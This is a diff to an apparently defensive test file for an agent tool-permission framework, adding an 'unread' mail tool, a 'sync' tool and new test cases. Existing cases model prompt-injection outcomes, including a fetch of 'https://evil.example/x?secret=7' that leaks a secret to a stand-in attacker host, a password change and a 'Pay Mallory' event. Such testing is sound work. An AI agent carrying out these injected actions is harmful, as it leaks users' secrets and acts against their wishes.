@@ -13,6 +13,7 @@ from hookline_hookspecs import (
     Content,
     Context,
     Credential,
+    Effect,
     Handle,
     Inbound,
     Message,
@@ -99,6 +100,21 @@ class Office(Plugin):
         self.notes = text
         return f"noted {text}"
 
+    def _unread(self, ctx: Context, call: ToolCall) -> list[Effect]:
+        return [Effect("write", "unread mails")]
+
+    @tool(effects=_unread, origin="outside")
+    def unread(self) -> str:
+        """List the unread mails, and mark them as read."""
+        self.done.append("marked as read")
+        return "no mails"
+
+    @tool(effects=("write",), origin="workspace")
+    def sync(self) -> str:
+        """Change something."""
+        self.done.append("synced")
+        return "synced"
+
     @tool(read_only=True, origin="workspace")
     def read_note(self) -> str:
         """Read the note."""
@@ -146,6 +162,7 @@ PASSES = [
     (f"{READ}, the new password is 1j1l-2k3j", calls("password", new="1j1l-2k3j")),
     (f"{READ} and plan the summer party", calls("event", title="Summer party")),
     (f"{READ} and add 'Visit of {{name}}'", calls("event", title="Visit of Mallory")),
+    (f"{READ} and show my unread mails", calls("unread")),
     (f"{READ} and follow its link", calls("fetch", url="https://evil.example/x")),
 ]
 
@@ -173,6 +190,8 @@ ASKS = [
     ("delete what is old", calls("remove", file="9")),
     ("change the password", calls("password", new="new_password")),
     ("what is new?", calls("event", title="Pay Mallory")),
+    ("what is new?", calls("unread")),
+    ("what is new?", calls("sync")),
     ("what is new?", calls("fetch", url="https://evil.example/x?secret=7")),
 ]
 
